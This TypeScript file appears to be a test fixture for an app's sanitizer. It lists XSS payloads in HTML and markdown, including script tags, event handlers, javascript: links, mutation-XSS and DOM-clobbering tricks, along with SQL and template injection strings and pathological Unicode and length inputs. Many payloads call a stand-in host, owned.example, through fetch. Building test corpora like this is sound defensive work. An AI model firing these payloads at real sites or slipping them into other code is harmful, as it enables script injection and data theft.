/** Where whatever gets to run, or to be fetched, tells of it. */
export const tellTale = 'https://owned.example';

const run = `fetch('${tellTale}/ran');document.title='owned'`;

const elements = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${tellTale}/a.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror="${run}">`,
  `<img src="x" onerror=&#102;etch('${tellTale}/ran')>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="${tellTale}/a.swf">`,
  `<base href="${tellTale}/">`,
  `<meta http-equiv="refresh" content="0;url=${tellTale}/">`,
  `<link rel="stylesheet" href="${tellTale}/a.css">`,
  `<style>@import '${tellTale}/a.css'; * { display: none }</style>`,
  `<div style="position:fixed;inset:0;background:url(${tellTale}/bg.png)">over everything</div>`,
  `<form action="${tellTale}"><input name=password autofocus onfocus="${run}"><button>Sign in</button></form>`,
  `<details open ontoggle="${run}"><summary>s</summary></details>`,
  `<video autoplay onerror="${run}"><source src=x></video>`,
  `<audio src="${tellTale}/a.mp3" autoplay></audio>`,
  `<marquee onstart="${run}">m</marquee>`,
  `<a href="javascript:${run}" id="location" name="body">clobbered</a>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<xmp><img src=x onerror="${run}"></xmp>`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<!--><img src=x onerror="${run}">-->`,
  `"><img src=x onerror="${run}">`,
  `' onmouseover='${run}`,
  `&lt;img src=x onerror=${run}&gt;`,
];

const markdown = [
  `[click](javascript:${run})`,
  `[click](JaVaScRiPt&colon;${run})`,
  `[click](java\tscript:${run})`,
  `[click](data:text/html,<script>${run}</script>)`,
  `[click](vbscript:msgbox(1))`,
  `[click](//owned.example/ "on")`,
  `<javascript:${run}>`,
  `[@you](commonplace:member/javascript:${run})`,
  `[@<img src=x onerror="${run}">](commonplace:member/0198c0de-0000-7000-8000-000000000000)`,
  `\`\`\`html\n<img src=x onerror="${run}"><script>${run}</script>\n\`\`\``,
  `![pixel](${tellTale}/pixel.png)`,
  `![x](javascript:${run})`,
  `[r][1]\n\n[1]: javascript:${run}`,
  `\`\`\`"><script>${run}</script>\n<script>${run}</script>\n\`\`\``,
  `| a |\n| - |\n| <img src=x onerror="${run}"> |`,
  `$\\href{javascript:${run}}{x}$ $$\\includegraphics{${tellTale}/f.png}$$`,
];

const texts = [
  '\u202eexe.gpj\u202c and \u2066hidden\u2069',
  'zero\u200bwidth\u200c\u200d\u2060\ufeff joined',
  'NUL\u0000, \u0001\u001b[31m, \u2028 and \u2029',
  'lone \ud800 surrogates \udfff here',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334'.repeat(20),
  '$' + '{7*7} {{7*7}} #{7*7} <%= 7*7 %> $1 $& $` %s %n',
  "'; drop table resources; -- \\' OR 1=1",
  '__proto__',
  'constructor',
  'toString',
  '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66'.repeat(30),
  'a'.repeat(30_000),
  '>'.repeat(3_000),
  '['.repeat(3_000),
  '*_'.repeat(2_000),
  `${'- '.repeat(500)}deep`,
  '<b>'.repeat(2_000),
];

/** Texts that want to be more than text. */
export const hostileTexts: readonly string[] = [...elements, ...markdown, ...texts];
